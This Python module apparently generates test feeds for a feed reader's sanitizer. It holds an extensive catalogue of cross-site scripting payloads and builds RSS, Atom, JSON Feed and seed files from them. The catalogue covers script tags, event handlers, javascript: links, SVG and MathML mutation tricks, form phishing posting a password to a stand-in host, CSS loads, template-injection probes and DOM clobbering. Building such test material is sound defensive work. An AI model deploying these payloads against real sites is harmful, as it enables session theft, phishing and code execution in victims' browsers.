"""Sixteen families of attempts to run something in a reader's browser, and documents full of them."""

from __future__ import annotations

import json
import re
from collections.abc import Iterable, Iterator
from html import escape
from urllib.parse import quote

RUN = "alert(window.__ran=1)"
CANARY = "https://canary.example"
IMAGE = f"<img src=x onerror={RUN}>"

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT\n>",
        f"<script src={CANARY}/a.js></script>",
        f"<script type=module>import '{CANARY}/m.js'</script>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f'<script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script>',
        f"<script/x>{RUN}//",
    ),
    "handlers": (
        IMAGE,
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}//",
        f"<video src=x onerror={RUN}><source onerror={RUN} src=x></video>",
        f"<audio autoplay oncanplay={RUN} onerror={RUN} src=x>",
        f"<details open ontoggle={RUN}><summary>x</summary></details>",
        f"<body onload={RUN} onpageshow={RUN}>",
        f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<p onmouseover={RUN} onanimationstart={RUN} style='animation:x 1s'>x</p>",
    ),
    "links": (
        f"<a href=javascript:{RUN}>x</a>",
        f"<a href=' \t\n jAvAsCrIpT:{RUN}'>x</a>",
        f"<a href='java\nscript:{RUN}'>x</a>",
        f"<a href='java&Tab;script&colon;{RUN}'>x</a>",
        f"<a href='&#x6A&#x61&#x76&#x61script:{RUN}'>x</a>",
        f"<a href='\x01javascript:{RUN}'>x</a>",
        f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        f"<a href='feed:javascript:{RUN}'>x</a><a href='view-source:javascript:{RUN}'>x</a>",
        f"<img src=javascript:{RUN}><video poster=javascript:{RUN}><blockquote cite=javascript:{RUN}>x",
    ),
    "svg": (
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
        f"<svg><set attributeName=onmouseover to={RUN} /></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}></svg>#x'></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>top.{RUN}</script>'></iframe></foreignObject></svg>",
        f"<svg><script href=data:,{RUN} /></svg>",
    ),
    "namespaces": (
        f"<math><mtext><table><mglyph><style><!--</style>{IMAGE}",
        f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
        f'<svg></p><style><a title="</style>{IMAGE}">',
        f"<math><annotation-xml encoding='text/html'><p><style></math>{IMAGE}</style>",
        f"<math href=javascript:{RUN}>x</math><math><maction xlink:href=javascript:{RUN}>x",
    ),
    "mutations": (
        f"<noscript><p title='</noscript>{IMAGE}'></noscript>",
        f"<template><s><template><s>{IMAGE}</s></template></s></template>",
        f"<style><a title='</style>{IMAGE}'></style>",
        f"<title><a title='</title>{IMAGE}'></title>",
        f"<textarea><p title='</textarea>{IMAGE}'></textarea>",
        f"<xmp><p title='</xmp>{IMAGE}'></xmp>",
        f"<select><iframe></select>{IMAGE}</iframe>",
        f"<a href=x><table><a href=javascript:{RUN}>x</a></table></a>",
    ),
    "frames": (
        f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
        f'<iframe srcdoc="&lt;img src=x onerror=parent.{RUN}&gt;"></iframe>',
        f"<iframe src=javascript:{RUN}></iframe>",
        f"<iframe src={CANARY}/frame></iframe><frameset><frame src={CANARY}/frame></frameset>",
        f"<portal src={CANARY}/portal></portal><fencedframe src={CANARY}/fenced></fencedframe>",
    ),
    "objects": (
        f"<object data=javascript:{RUN}></object>",
        f"<object data={CANARY}/object type=text/html></object>",
        f"<embed src={CANARY}/embed type=text/html>",
        f"<embed src=javascript:{RUN}><applet code=x archive={CANARY}/a.jar></applet>",
    ),
    "forms": (
        f"<form action=javascript:{RUN}><button>Read on</button></form>",
        f"<form action={CANARY}/post><input name=token type=password><button>Sign in</button></form>",
        f"<form id=f></form><button form=f formaction=javascript:{RUN}>x</button>",
        f"<form><input type=image src=x onerror={RUN} formaction={CANARY}/image></form>",
        f"<isindex action=javascript:{RUN} type=image>",
    ),
    "meta and base": (
        f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'>",
        f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{RUN}</script>'>",
        f"<base href={CANARY}/><img src=based>",
        f"<link rel=stylesheet href={CANARY}/a.css><link rel=import href={CANARY}/import>",
        f"<link rel=prefetch href={CANARY}/prefetch><link rel=modulepreload href={CANARY}/preload.js>",
    ),
    "styles": (
        f"<style>@import '{CANARY}/import.css';</style>",
        f'<p style="background:url({CANARY}/background)">x</p>',
        f"<p style='width:expression({RUN})'>x</p>",
        f"<p style='-moz-binding:url({CANARY}/xbl);behavior:url({CANARY}/htc)'>x</p>",
        f"<div style='position:fixed;inset:0;z-index:9999'><a href={CANARY}/over>x</a></div>",
    ),
    "breakouts": (
        f'"><script>{RUN}</script>',
        f"'><script>{RUN}</script>",
        f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
        f"' onmouseover={RUN} x='",
        f"`onerror={RUN}",
        f"</title><script>{RUN}</script>",
        f"</textarea></script></style>{IMAGE}",
        f"]]>{IMAGE}<![CDATA[",
    ),
    "charsets": (
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\ufeff<script>{RUN}</script>",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
        f"\u2028<script>{RUN}</script>\u2029",
        f"\u02bbonmouseover={RUN}\u02bc \u202e<script>{RUN}</script>",
    ),
    "templates": (
        "{{7*191}}",
        "{% print(7*191) %}${7*191}#{7*191}<%= 7*191 %>",
        "{{config.items()}}{{''.__class__.__mro__[1].__subclasses__()}}",
        "%(num)s %s {0.__class__}",
        "{{constructor.constructor('alert(window.__ran=1)')()}}",
    ),
    "comments": (
        f"<!--><script>{RUN}</script>-->",
        f"<!-- --!><script>{RUN}</script>",
        f"<!-- never closed {IMAGE}",
        f"<![CDATA[>{IMAGE}]]>",
        f"<svg><![CDATA[><image xlink:href='x' onerror={RUN}></image>]]></svg>",
        f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '{IMAGE}'>]>&e;",
        f"<!{IMAGE}>",
    ),
    "clobbering": (
        "<a id=main name=forms href=https://a.example/>x</a><p id=query>x</p>",
        "<form name=body><input name=innerHTML><input name=attributes></form>",
        "<img name=cookie id=currentScript src=x><img name=querySelector src=x>",
        "<a id=defaultView><a id=defaultView name=alert href=cid:x>x</a>",
    ),
}

NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]|]]>")
#: An address in what tries to run by one.
ADDRESS = re.compile(r"""(?:href|src|action|data)=['"]?([^'">]+)""")


def list_attempts() -> list[str]:
    """Return all of them, one after another."""
    return [attempt for family in FAMILIES.values() for attempt in family]


def find_address(attempt: str) -> str:
    """Return an address to plant: the one in the attempt, else one with the attempt in it."""
    found = ADDRESS.search(attempt)
    return found[1] if found else f"https://victim.example/?q={attempt}"


def write_rss(attempts: Iterable[tuple[int, str]], more: str) -> bytes:
    items = "".join(_write_item(number, attempt, more) for number, attempt in attempts)
    title = escape(FAMILIES["breakouts"][0])
    return f"""<?xml version="1.0" encoding="utf-8"?><rss version="2.0"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>{title}</title><link>javascript:{RUN}</link><description>{title}</description>
<copyright>{title}</copyright><category>{title}</category>{items}</channel></rss>""".encode()


def _write_item(number: int, attempt: str, more: str) -> str:
    told, address = escape(attempt), escape(find_address(attempt))
    is_wrapped = number % 2 and not NOT_IN_XML.search(attempt)
    body = (
        f"<![CDATA[<p>{number}{more}</p>{attempt}]]>"
        if is_wrapped
        else escape(f"<p>{number}{more}</p>{attempt}")
    )
    return f"""<item><guid isPermaLink="false">rss {number} {told}</guid><title>{number} {told}</title>
<link>{address}</link><dc:creator>{told}</dc:creator><author>{told}</author><category>{told}</category>
<comments>{address}</comments><source url="{address}">{told}</source><dc:rights>{told}</dc:rights>
<enclosure url="{address}" type="{told}" length="1"/><description>{told}</description>
<content:encoded>{body}</content:encoded></item>"""


def write_atom(attempts: Iterable[tuple[int, str]], more: str) -> bytes:
    items = "".join(_write_entry(number, attempt, more) for number, attempt in attempts)
    title = escape(FAMILIES["script"][0])
    return f"""<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">
<title type="html">{title}</title><subtitle type="html">{title}</subtitle><id>urn:x:{title}</id>
<rights type="html">{title}</rights><link href="data:text/html,{title}"/>{items}</feed>""".encode()


def _write_entry(number: int, attempt: str, more: str) -> str:
    told, address = escape(attempt), escape(find_address(attempt))
    return f"""<entry><id>urn:x:{number}:{told}</id><title type="html">{number} {escape(told)}</title>
<link href="{address}"/><link rel="enclosure" href="{address}" type="{told}"/>
<link rel="replies" type="text/html" href="{address}"/>
<author><name>{told}</name><uri>{address}</uri></author>
<category term="{told}" label="{told}"/><summary type="html">{told}</summary><rights>{told}</rights>
<content type="html">{escape(f"<p>{number}{more}</p>")}{told}</content></entry>"""


def write_json(attempts: Iterable[tuple[int, str]], more: str) -> bytes:
    items = [
        {
            "id": f"json {number} {attempt}",
            "url": find_address(attempt),
            "external_url": find_address(attempt),
            "title": f"{number} {attempt}",
            "authors": [{"name": attempt, "url": find_address(attempt)}],
            "tags": [attempt],
            "image": find_address(attempt),
            "summary": attempt,
            "content_html": f"<p>{number}{more}</p>{attempt}",
            "attachments": [{"url": find_address(attempt), "mime_type": attempt, "size_in_bytes": 1}],
        }
        for number, attempt in attempts
    ]
    head = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": IMAGE,
        "home_page_url": f"javascript:{RUN}",
    }
    return json.dumps(head | {"description": IMAGE, "items": items}).encode()


def write_seeds(attempts: Iterable[tuple[int, str]]) -> Iterator[tuple[str, dict[str, str]]]:
    """Yield names of files, and what stands in them."""
    for number, attempt in attempts:
        line = " ".join(attempt.split())
        told = {"title": f"{number} {line}", "link": f"https://victim.example/{number}?q={quote(attempt)}"}
        yield f"{number}.txt", told | {"body": f"<p>By {line}</p>{attempt}"}


def share_out(attempts: list[str]) -> dict[str, list[tuple[int, str]]]:
    """Return which attempts go into which kind of document; what XML cannot hold goes into JSON."""
    shared: dict[str, list[tuple[int, str]]] = {"rss": [], "atom": [], "json": [], "seeds": []}
    for number, attempt in enumerate(attempts):
        kind = list(shared)[number % 4]
        is_kept = kind == "json" or not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", attempt)
        shared[kind if is_kept else "json"].append((number, attempt))
    return shared
